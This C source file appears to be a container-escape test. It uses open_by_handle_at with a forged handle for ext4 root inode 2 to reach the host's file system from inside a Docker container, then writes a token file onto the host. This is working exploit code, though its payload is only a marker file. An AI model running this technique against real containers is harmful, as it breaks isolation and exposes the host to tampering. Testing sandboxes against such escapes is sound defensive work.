/*
 * open_by_handle_at(2) opens a file by what its file system calls it, and asks no path. On ext4 that is the inode's number, and the root of
 * the file system is always number 2; a generation of 0 fits any. The box stands on the host's file system, so that is the host's root.
 * In 2014 this opened the way out of Docker.
 */
#include "attack.h"

// #region attack
/* argv: a token's path, from the root of the file system. */
void file_handle(char **argv)
{
	struct {
		struct file_handle head;
		uint32_t inode, generation;
	} root = { { .handle_bytes = 8, .handle_type = 1 }, 2, 0 };
	int here = must(open("/", O_RDONLY), "open the box's root");
	int above = must(open_by_handle_at(here, &root.head, O_RDONLY),
		"open the file system's root by its number");
	int token = must(openat(above, argv[0], O_WRONLY | O_CREAT, 0644),
		"write into a directory of the host");
	must(write(token, "out\n", 4), "write a token");
}
// #endregion attack
